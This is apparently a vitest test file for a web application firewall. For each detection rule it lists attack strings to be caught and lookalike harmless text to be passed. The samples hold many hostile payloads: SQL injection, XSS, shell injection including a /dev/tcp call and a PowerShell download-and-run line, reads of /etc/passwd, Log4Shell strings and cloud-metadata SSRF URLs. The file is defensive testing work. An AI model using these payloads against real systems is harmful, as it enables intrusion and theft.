// The WAF's detectors, pure: every rule on an attack it is for and on harmless text that looks a
// little like it (prose, code in a forum post), the issue's examples, the decoders, and the cost
// of adversarial input (no detector may take more than linear time).
import { createHash, randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { decodedForms, percentDecode } from '../../src/edge/waf/decode.ts';
import { ATTACK_RULES, inspect, protocolFinding } from '../../src/edge/waf/inspect.ts';
import { jsonInputs, readBody } from '../../src/edge/waf/body-parse.ts';
import { requestInputs } from '../../src/edge/waf/inputs.ts';
import { cpuMs } from '../helpers/cpu-time.ts';

/** rule id → [inputs it must be found in, inputs nothing may be found in] (as query values). */
const SAMPLES: Record<number, [string[], string[]]> = {
  942100: [['1 union all select password from users', '-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3', "1e0union select 1,2", "1' uniunionon selselectect 1,2-- -", "1 union distinctrow select 1,2", "' union select username || '~' || password from users--", '1 union select username as u, password as p from users', '/*!%55NiOn*/ /*!%53eLEct*/ 1,2,3'], ['the union was a great select of people', 'trade union select committee', 'the union select committee as a whole', 'trade union select committee members', 'union members select an option from the menu']],
  942110: [["1; waitfor delay '0:0:5'--", '1 and sleep(15)'], ['I need sleep (8 hours)', 'sleep (lots)']],
  942120: [['(select top 1 name from sysusers)', "1'+(select 1 from dual)+'", "' or 1 in (select @@version)--", '1 rlike (select 1)', "1' rlike (select (case when (1=1) then 1 else 0 end))-- -", "1 order by (select 1 from pg_sleep(5))", "' or exists(select 1 from users)-- ", "1' and (select data->>'pw' from users limit 1)='a'--"], ['(select one) from the list', '(select an option from the menu)']],
  942130: [["1'; drop table users--", '3; declare @c varchar(255)', "'; select case when (1=1) then pg_sleep(10) else pg_sleep(0) end--", "1'; set @q=0x53; prepare s from @q; execute s;-- -", "'; exec master..xp_dirtree '\\\\h\\s'--"], ['done; drop by tomorrow', 'it is late; select the best one']],
  942140: [['exec master.dbo.xp_cmdshell', 'x from information_schema.tables'], ['the master bedroom', 'the idv_msdb database']],
  942150: [["admin' or 'a'='a", '1 AND substring(version(),1,1)=5', "' or 1.e(1) or '1'='1", "select * from users where id = 1 or 1=1", "1 or 3 between 2 and 4", "1' and 5 not between 0 and 4-- -", `1 and '{"a":1}'::jsonb @> '{"a":1}'`, `' or '{"a":{"b":1}}'::jsonb #>> '{a,b}' = '1'--`, '1` or `1`=`1', 'x` or 1=1 -- -'], ["D'or 1st parfume", "O'Reilly or Wiley=good publishers", "3+ yrs (part-time); bar & restaurant", "rock or 1 more"]],
  942160: [['1 OR 2>1', "admin'or(1)=(1)-- -"], ['chapter 12 and 12 more', '1) a-b=c']],
  942170: [['extractvalue(1,concat(0x7e,version()))', 'updatexml(1,concat(0x7e,user()),1)'], ['extract the value', 'concat the strings']],
  942180: [["admin'-- ", "admin'#"], ["it's -- so they say", '"#1 best seller"']],
  942190: [["1' ORDER BY 5-- -", "1' group by 2"], ["I'd like to order by phone", 'sort by 5']],
  942200: [["copy (select '') to program 'id'", 'copy cmd_exec from program \'id\'', "copy (select password from users) to '/var/www/html/x.txt'", "1;copy (select '') to program 'id'"], ['copy the report to program folder', "copy it to program 'settings' and restart", 'copy (see the attached file) to the team']],
  941100: [['<script>alert(1)</script>', '<svg/onload=alert(1)>', "<style>@import'//evil.example/x.css';</style>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"], ['a script for the play', 'h2<h1']],
  941110: [['<button autofocus onfocusin=print()>', '" onwheel=x()', "<input autofocus ng-focus=$event.x>"], ['only=1337 on the list', 'set onload in the config']],
  941120: [['javascript:alert(1)', '<a href="jav&#x09;ascript:x()">', 'javascr\tipt:alert(1)', 'java\nscript:alert(1)'], ['JavaScript: Basics of JavaScript Language', 'Learn JavaScript: a guide (2nd edition)']],
  941130: [['"><b>', "'><p>"], ['<b>bold</b> and <i>italic</i>', 'if (a < b && c > d) return;']],
  941140: [['alert(document.domain)', 'confirm.call(null,1)'], ['an alert was raised', 'use print(x) in python']],
  941150: [['x=document.cookie', '__proto__[admin]=1'], ['a document about cookies', 'the constructor of the house']],
  941160: [["setInterval('ale'+'rt(1)')", 'eval("x")'], ['set an interval', 'evaluate it']],
  941170: [['";fetch(x)//', "'-alert(1)//"], ["it's alert", 'see (page 2)']],
  932100: [['x;{curl,-o,/tmp/s,http://h/}', '; cat /etc/hosts', ";a=i;b=d;$a$b", "test.jpg; id #", ";/???/c?t /???/p??s??", "& c^m^d /c w^h^o^a^m^i", "| wmic process call create \"calc.exe\"", "$(rev<<<'imaohw')", 'echo x > /var/www/s.php'], ['cat and dog', 'Set the table\nType your name', 'curl -s https://example.org > /dev/null 2>&1', 'ls -la /var/log']],
  932110: [['$(id)', 'a=`whoami`'], ['costs $ 5 (each)', 'run `ls -la` to see the files']],
  932120: [['() { :; }; echo', '() { x; }; id'], ['() {} empty', 'f() { return 1 }']],
  932130: [['cat</dev/tcp/192.0.2.1/80', '/bin/bash -c id'], ['the bin is bashed', 'my /bin folder']],
  932140: [['x --upload-pack=touch /tmp/p', '-oProxyCommand=id', "-exec id ;", "--output=/tmp/x"], ['exec noun', 'the --upload flag', "find . -type f -exec ls {} \\;"]],
  932150: [["__import__('os').system('id')", 'Runtime.getRuntime().exec("id")', "phpinfo();", "class.module.classLoader.resources.context", "rO0ABXNyABdqYXZh", "<?php echo md5(1); ?>", "O:8:\"stdClass\":0:{}", "IEX(New-Object Net.WebClient).DownloadString('http://h/a')"], ['python objects', 'the system (of record)', "the IEX exchange opened", "php info page"]],
  930100: [['../../etc/x', '..%c0%af..%c0%afboot', '%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd'], ['one..two', 'use ../lib for that']],
  930110: [['/etc/shadow', 'c:\\windows\\win.ini', "/.git/config", "/var/log/apache2/access.log", "c:\\inetpub\\wwwroot\\web.config"], ['etc and shadows', 'the windows system', "my .git folder", "the var log"]],
  930120: [['\\\\host\\c$\\windows', '\\\\::1\\c$\\users', '\\\\attacker.example\\share\\x'], ['c$ money', 'a \\ b']],
  930130: [['php://filter/resource=index', 'expect://id', "http://attacker.example/shell.txt?", "data:text/plain,<?php phpinfo(); ?>"], ['php filter tips', 'https://example.org/', "https://example.org/search?", "http://www.w3.org/2000/09/xmldsig#"]],
  934100: [['<!--#exec cmd="ls" -->', '<!--#include virtual="/x"-->'], ['<!-- a comment -->', '#include <stdio.h>']],
  934110: [['{{7*7}}', '${T(java.lang.Runtime).getRuntime()}'], ['{{ name }}', 'price ${ amount }']],
  934120: [['<!DOCTYPE x [ <!ENTITY y SYSTEM "file:///etc/passwd"> ]>', '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/x"/></x>'], ['<!doctype html>', '<?xml version="1.0"?><a>b</a>']],
  934130: [['*)(uid=*))(|(uid=*', '(&(uid=admin)(|(a=b)))'], ['(a) and (b)', 'f(x)(y)']],
  934140: [['{"user": {"$ne": null}}', 'db.users.find({})', "'; return true; var x='"], ['where is the $ sign', 'I have $100']],
  944150: [['${jndi:ldap://x/a}', '${${lower:j}${::-n}di:ldap://x}'], ['${name}', '${ price }']],
  921110: [['x\r\nRCPT TO: a@example.org', '\r\nQUIT\r\n'], ['rcpt to me please', 'quit\nsmoking']],
  921120: [['a@example.org\r\nBcc: b@example.org', 'x\nSubject: hi', 'x\r\nContent-Type: text/html'], ['line one\nto be clear: yes', 'from now on\ncc me later']],
  934150: [['{"__proto__":{"x":1}}', '{"constructor":{"prototype":{"x":1}}}', 'a.__proto__.b', 'constructor[prototype][x]', 'Object.prototype.isAdmin = 1', "x['__proto__']['y']=1"], ['the __proto__ property is deprecated', 'constructor.prototype in prose.', 'Object.prototype.__proto__', 'Object.prototype.hasOwnProperty', 'if (Object.prototype.x == y)']],
  934160: [['http://169.254.169.254/latest/meta-data/', 'http://0xa9fea9fe/', 'http://[::ffff:a9fe:a9fe]/', '169.254.169.254.nip.io', 'http://metadata.google.internal/', 'http://100.100.100.200/', 'http://[fd00:ec2::254]/'], ['1.2.3.4', '2852039166', 'https://example.org/']],
  934170: [['http://0x7f000001/', 'http://2130706433/', 'http://127.1/'], ['http://127.0.0.1/', 'http://localhost:3000/']],
  934180: [['http://c59d1b2xq.oast.fun/', 'x1.interact.sh', 'nslookup a.burpcollaborator.net', 'http://q.oastify.com', 'a.dnslog.cn', 'http://canarytokens.com/about/x/index.html'], ['interact.sh', 'oast.fun is a service', 'https://oast.fun.example.org/', 'scripts/interact.sh']],
  921100: [['a\r\nSet-Cookie: x=1', '%e5%98%8dset-cookie:x'], ['a set-cookie header', 'line one\r\nline two']],
};

const found = (value: string, level = 1) =>
  /^\{"(?:__proto__|constructor)"/.test(value) ? inspect('POST', '/', { 'content-type': 'application/json' }, jsonInputs(value, 'body'), { waf_level: level }) : inspect('GET', `/?q=${encodeURIComponent(value)}`, {}, undefined, { waf_level: level });

describe('WAF rules', () => {
  it('has samples for every rule', () => {
    expect(ATTACK_RULES.map((r) => r.id).filter((id) => !(id in SAMPLES))).toEqual([]);
  });

  for (const rule of ATTACK_RULES) {
    it(`${rule.id} ${rule.description}`, () => {
      const [attacks, harmless] = SAMPLES[rule.id]!;
      // The first sample is this rule's own; later ones may be found by another rule first.
      expect(found(attacks[0]!), attacks[0]).toMatchObject({ rule: rule.id });
      for (const attack of attacks) expect(found(attack), attack).toBeDefined();
      for (const text of harmless) expect(found(text), text).toBeUndefined();
    });
  }

  it("catches the issue's examples", () => {
    for (const example of ['1 OR 2>1', '1 AND substring(version(),1,1)=5', 'admin\'or(1)=(1)-- -', "1' ORDER BY 5-- -", '-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2', '<button autofocus onfocusin=print()>', 'x;{curl,-o,/tmp/s,http://h/}']) {
      expect(found(example), example).toBeDefined();
    }
    expect(inspect('GET', '/app/..;/manager/html', {})).toMatchObject({ rule: 930100, where: 'path' });
  });

  it('leaves ordinary prose alone', () => {
    for (const text of ['select a size from the list below', 'I need sleep (8 hours) after this', '"#1 best seller"', 'Set the alarm\nType your PIN', 'Use `select * from t` to see it', 'Tom & Jerry; cat lovers unite', 'union members select their leaders from a list', 'Is 2>1? Yes, and 3>2.']) {
      expect(found(text), text).toBeUndefined();
    }
  });

  it('decodes %XX byte by byte: an invalid UTF-8 byte does not hide the rest', () => {
    expect(percentDecode('%FF1%27%20UNION')).toBe("\ufffd1' UNION");
    expect(percentDecode('%c0%ae%c0%ae%2f')).toBe('../');
    expect(inspect('GET', "/?id=%FF1'%20UNION%20SELECT%20password%20FROM%20users--", {})).toMatchObject({ class: 'sqli' });
    expect(decodedForms('%253Cscript%253E')).toContain('<script>');
    expect(decodedForms('&lt;svg/onload&equals;alert(1)&gt;')).toContain('<svg/onload=alert(1)>');
    expect(decodedForms('\\u003cscript\\u003e')).toContain('<script>');
  });

  it('decodes base64 that decodes to text, at every level; tokens, ids and hashes stay unread', () => {
    const encoded = Buffer.from("1' union select password from users--").toString('base64');
    expect(found(encoded, 1)).toMatchObject({ class: 'sqli' });
    expect(found(encoded, 2)).toMatchObject({ class: 'sqli' });
    // Unpadded, URL alphabet: a value of letters and digits alone is read too…
    const word = Buffer.from('<script>alert(1)</script>').toString('base64url');
    expect(word).toMatch(/^\w+$/);
    expect(found(word, 1)).toMatchObject({ class: 'xss' });
    // …and so is a path segment of it (an app routes /files/{name} to a parameter).
    expect(inspect('GET', `/files/${Buffer.from('../../etc/passwd').toString('base64url')}`, {})).toMatchObject({ class: 'lfi', where: 'path segment (base64)' });
    // What decodes to bytes is no text: hashes, random tokens, UUIDs, ids; benign text decodes harmless.
    const harmless = [
      createHash('sha256').update('x').digest('hex'),
      randomBytes(24).toString('base64url'),
      randomBytes(32).toString('base64'),
      '3f2504e0-4f89-11d3-9a0c-0305e82c3301',
      'SKU12345X37035',
      Buffer.from('{"user":"ann","cart":[12,14],"theme":"dark"}').toString('base64'),
      Buffer.from('Please select the size you want from the list; order by phone if needed.').toString('base64'),
    ];
    for (const value of harmless) {
      expect(found(value, 1), value).toBeUndefined();
      expect(inspect('GET', `/items/${value}`, {}), value).toBeUndefined();
    }
    // A JWT: three base64url parts joined by dots is a token, not text.
    const jwt = ['{"alg":"HS256","typ":"JWT"}', '{"sub":"42","name":"Ann O\'Neil","iat":1700000000}'].map((p) => Buffer.from(p).toString('base64url')).join('.') + '.' + randomBytes(32).toString('base64url');
    expect(inspect('GET', '/', { authorization: `Bearer ${jwt}`, cookie: `session=${jwt}` })).toBeUndefined();
  });

  it('reads a backtick as a substitution unless it quotes code in prose (a Markdown code span, at level 1)', () => {
    for (const attack of ['127.0.0.1 `id`', 'x `cat /etc/passwd`', 'a.example `wget http://h/s`']) expect(found(attack), attack).toMatchObject({ rule: 932110 });
    for (const prose of ['run `ls -la` to see the files', 'You can use `git log --oneline | head -5` to see the last commits', 'try this:\n```sh\nls -la | grep conf\n```\nthen tell me']) {
      expect(found(prose), prose).toBeUndefined();
      expect(found(prose, 2), prose).toBeDefined();
    }
  });

  it('reads SQL in quoted code at level 1 (a query knows no Markdown): a quote or backtick that turns the query counts; quoted SQL does not', () => {
    const body = (text: string, level = 1) => inspect('POST', '/comments', { 'content-type': 'application/json' }, jsonInputs(JSON.stringify({ body: text }), 'body'), { waf_level: level });
    for (const attack of ["thanks for the post, `' or 1=1-- -` was the trick", "nice one `' union select password from users-- -` ok", 'hello there friend 1` OR `1`=`1']) {
      expect(body(attack), attack).toMatchObject({ class: 'sqli' });
    }
    for (const post of ['You can combine them with `SELECT city FROM customers UNION SELECT city FROM suppliers;` and sort after.', "Why does `SELECT data->>'name' FROM t WHERE data @> '{}'` return nothing for me?", 'Add `--dry-run` flag to the deploy script', 'Press `Ctrl` or `Cmd` and then `=` to zoom in the editor.']) {
      expect(body(post), post).toBeUndefined();
    }
    // From level 2 quoted code is read like the rest: the union select.
    expect(body('You can combine them with `SELECT city FROM customers UNION SELECT city FROM suppliers;` and sort after.', 2)).toMatchObject({ class: 'sqli' });
  });

  it("reads an editor's HTML body field as a document: embeds pass, script does not", () => {
    const field = (html: string) => inspect('POST', '/wp-admin/post.php', { 'content-type': 'application/x-www-form-urlencoded' }, [{ where: 'body field content', param: 'content', value: encodeURIComponent(html), plus: true, body: true }]);
    expect(field('<p>Watch:</p>\n<iframe width="560" src="https://www.youtube.com/embed/x" allowfullscreen></iframe>')).toBeUndefined();
    expect(field('<p>Listen:</p>\n<audio controls src="/ep12.mp3"></audio>\n[contact-form-7 id="1"]')).toBeUndefined();
    expect(field('<p>hi</p><script>alert(1)</script>')).toMatchObject({ class: 'xss' });
    expect(field('<p>hi</p><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>')).toMatchObject({ class: 'xss' });
    expect(field('<p>hi</p><img src=x onerror=alert(1)>')).toMatchObject({ class: 'xss' });
    // The same iframe in a query value is no editor's document.
    expect(found('<iframe src="https://evil.example/">')).toMatchObject({ class: 'xss' });
  });

  it('refuses a NUL byte in URL, header and cookie values (truncation), not in bodies', () => {
    expect(inspect('GET', '/?file=shell.php%00.jpg', {})).toMatchObject({ rule: 920140 });
    expect(inspect('GET', '/', { 'x-file': 'a.txt%2500' })).toMatchObject({ rule: 920140 });
    expect(inspect('GET', '/', { cookie: 'f=a%00b' })).toMatchObject({ rule: 920140 });
  });

  it('joins repeated parameters (",", as ASP.NET does, and concatenated)', () => {
    expect(inspect('GET', "/?id=1'%20UNION/*&id=*/SELECT%20password%20FROM%20users--", {})).toMatchObject({ class: 'sqli', where: 'query id (repeated)' });
    expect(inspect('GET', '/?q=%3Cscr&q=ipt%20src=//x%3E', {})).toMatchObject({ class: 'xss', where: 'query q (repeated)' });
  });

  it('joins a name given in the query and in a form or multipart body (ASP.NET\'s Request.Params)', () => {
    const form = (url: string, body: string) => inspect('POST', url, { 'content-type': 'application/x-www-form-urlencoded' }, readBody(Buffer.from(body), 'application/x-www-form-urlencoded').inputs);
    expect(form("/f?id=1'%20UNION/*", 'id=*/SELECT%20password%20FROM%20users--')).toMatchObject({ class: 'sqli', where: 'query and body id (joined)' });
    // Each half alone is no statement; another name in the body joins nothing.
    expect(form("/f?id=1'%20UNION/*", 'other=*/SELECT%20password%20FROM%20users--')).toBeUndefined();
    expect(form('/f?x=1', 'id=*/SELECT%20password%20FROM%20users--')).toBeUndefined();
    const boundary = 'b0und';
    const part = `--${boundary}\r\nContent-Disposition: form-data; name="id"\r\n\r\n*/SELECT password\nFROM users--\r\n--${boundary}--\r\n`;
    const type = `multipart/form-data; boundary=${boundary}`;
    expect(inspect('POST', "/f?id=1'%20UNION/*", { 'content-type': type }, readBody(Buffer.from(part), type).inputs)).toMatchObject({ class: 'sqli', where: 'query and body id (joined)' });
  });

  it('reads headers but a short list: cookie names, Accept-Language, Content-Type parameters, Authorization, X-*, Sec-*', () => {
    const where = (headers: Record<string, string>) => inspect('GET', '/', headers)?.where;
    expect(where({ cookie: "x' union select password from users--=1" })).toBe('cookie name');
    expect(where({ 'accept-language': "en' union select password from users--" })).toBe('header accept-language');
    expect(where({ accept: 'text/html, <script>alert(1)</script>' })).toBe('header accept');
    expect(where({ 'content-type': 'text/plain; charset="${jndi:ldap://x/a}"' })).toBe('header content-type');
    expect(where({ authorization: "Basic ' or 1=1--" })).toBe('header authorization');
    expect(where({ 'x-anything': '; cat /etc/passwd' })).toBe('header x-anything');
    expect(where({ 'sec-ch-ua': '<svg onload=alert(1)>' })).toBe('header sec-ch-ua');
    expect(requestInputs('/', { 'if-none-match': '"x"', 'cache-control': 'no-cache' })).toEqual([{ where: 'path', value: '/', path: true }]);
  });

  it('leaves an X-Forwarded-For of addresses only unread (and out of the verdict key); anything else in it is read', () => {
    expect(requestInputs('/', { 'x-forwarded-for': '203.0.113.9, 2001:db8::1,10.0.0.1' })).toEqual([{ where: 'path', value: '/', path: true }]);
    // The same request from a client whose claim carries a payload, after clean ones were remembered.
    for (let i = 0; i < 3; i++) expect(inspect('GET', '/xff', { 'x-forwarded-for': `10.0.0.${i}` })).toBeUndefined();
    expect(inspect('GET', '/xff', { 'x-forwarded-for': "1' or '1'='1, 10.0.0.1" })?.where).toBe('header x-forwarded-for');
    expect(inspect('GET', '/xff', { 'x-forwarded-for': '10.0.0.1; cat /etc/passwd' })?.where).toBe('header x-forwarded-for');
    expect(inspect('GET', '/xff', { 'x-forwarded-for': '<script>alert(1)</script>' })?.where).toBe('header x-forwarded-for');
  });

  it('passes ordinary browser requests', () => {
    const headers = {
      'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
      accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
      'accept-language': 'en-US,en;q=0.9,de;q=0.8',
      'sec-ch-ua': '"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"',
      'sec-ch-ua-platform': '"Windows"',
      referer: 'https://shop.example/search?q=red+shoes&page=2',
      cookie: '_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc; theme=dark',
    };
    expect(inspect('GET', '/articles/2024/how-to-select-a-union?page=2&sort=date', headers)).toBeUndefined();
  });

  it('protocol checks: methods, encoding, NUL, framing', () => {
    expect(protocolFinding('PROPFIND', '/', {}, 2)).toMatchObject({ status: 405 });
    expect(protocolFinding('GET', '/%zz', {}, 2)).toMatchObject({ status: 400 });
    expect(protocolFinding('GET', '/a%00.php', {}, 2)).toMatchObject({ status: 400 });
    expect(protocolFinding('POST', '/', { 'content-length': '1', 'transfer-encoding': 'chunked' }, 3)).toMatchObject({ status: 400 });
    expect(protocolFinding('GET', `/${'a'.repeat(9000)}`, {}, 2)).toMatchObject({ status: 414 });
    expect(protocolFinding('GET', '/ok?x=%41', {}, 2)).toBeUndefined();
  });

  it('reads JSON string by string in linear time, escapes and all', () => {
    expect(jsonInputs('{"a\\"b": "c\\\\", "d" : [1, true, "e\\u0041"], "f": x}', 'body').map((i) => [i.where, i.value])).toEqual([
      ['body key', 'a"b'],
      ['body', 'c\\'],
      ['body key', 'd'],
      ['body', 'eA'],
      ['body key', 'f'],
      ['body (outside strings)', '{: , : [1, true, ], : x}'],
    ]);
    // An unterminated literal, and one ending in a lone backslash, are read to the end.
    expect(jsonInputs('["ab', 'body').map((i) => i.value)).toEqual(['ab']);
    expect(jsonInputs('["ab\\', 'body').map((i) => i.value)).toEqual(['ab\\']);
    // 1 MiB of what a literal-by-literal reader could go back over: read in ~10 ms of CPU; a
    // reading quadratic in the input would take ~10^12 steps (minutes). The bound is CPU time,
    // not wall time (this once measured 1,959 ms of wall time beside other test files), and 3 s.
    const k = 1024 * 1024;
    for (const source of ['"\\'.repeat(k / 2), '\\'.repeat(k), `"${'\\'.repeat(k)}"`, '"'.repeat(k), '"a":'.repeat(k / 4), `[${'"\\"",'.repeat(k / 5)}]`]) {
      expect(cpuMs(() => jsonInputs(source, 'body')), source.slice(0, 12)).toBeLessThan(3000);
    }
  });

  it('costs linear time on adversarial input (16 and 64 KiB of what each detector backtracks on)', () => {
    // Each pattern at two sizes; a linear reading takes ~4x as long at four times the size, a
    // quadratic one ~16x (the two superlinear reads this found, unclosed template opens and a
    // line-break pattern, were). The thread's CPU time, best of five runs each: the time spent
    // waiting for a core on a busy machine is not counted; with a floor for the clock's grain
    // and garbage collection.
    const patterns: Array<[string, number]> = [
      ["'", 1], ['/*', 2], ['<a ', 3], ['on', 2], ['${', 2], ['{{', 2], [';', 1], ['`', 1], ['../', 3], ['(', 1], ['union ', 6], ['sleep ', 6], ['<!--', 4], ['%', 1], ['&#', 2], ['\\u', 2], ["'+'", 3], ['a=1&', 4], ["1' or ", 6],
      ['<x ', 3], ['"\'"', 3], ['$ifs', 4], ['{a,', 3], ['\n', 1], ['javascript:', 11], ['select ', 7], ['`x` y z ', 8], ['``` a ', 6], ['/**/', 4], ['1 or 3 between ', 15], ['$()', 3], ['/???/', 5],
      // The trigger-word scan (long words that share prefixes) and the gates before each pattern.
      ['sp_', 3], ['information_schem', 17], ['sys_eva ', 8], ['/b', 2], ['; x', 3], ['(s', 2], ['$where', 6], ['..;', 3],
      // SSRF hosts, mail headers, date lookups, variable cuts, cmd.exe's for.
      ['http://0x', 9], ['http://a.', 9], ['\nto:', 4], ['\nbcc: ', 6], ["${date:'", 8], ['${path:0:', 9], ['for /f ', 7], ['for /f in (', 11],
      // SQL: an unclosed comment after each keyword (searched for once, not per keyword), select
      // lists, COPY, JSON operators, backtick identifiers.
      ['union /*', 8], ['sleep /*', 8], ['(select /*', 10], ['union select a || ', 18], ['union select a as ', 18], ['copy (select ', 13], ["copy t to program '", 19], ['a @> #>> ', 9], ['x` or `', 7],
      // Callback hosts, prototype paths and writes in values.
      ['a.oast.', 7], ['a-a.', 4], ['__proto__.', 10], ['a.', 2], ['[a]', 3], ["['__proto__']", 13], ['object.prototype.a ', 19], ['object.assign(', 14], ['"__proto__" ', 12],
    ];
    const cost = (value: string) => {
      let best = Infinity;
      for (let round = 0; round < 5; round++) {
        best = Math.min(best, cpuMs(() => inspect('POST', '/', { 'content-type': 'text/plain' }, [{ where: 'body', value, body: true }], { waf_level: 4 })));
      }
      return best;
    };
    for (const [unit, length] of patterns) {
      const small = cost(unit.repeat((16 * 1024) / length));
      const large = cost(unit.repeat((64 * 1024) / length));
      expect(large, `${unit}: ${small.toFixed(1)} ms at 16 KiB, ${large.toFixed(1)} ms at 64 KiB`).toBeLessThan(8 * small + 30);
    }
  });
});
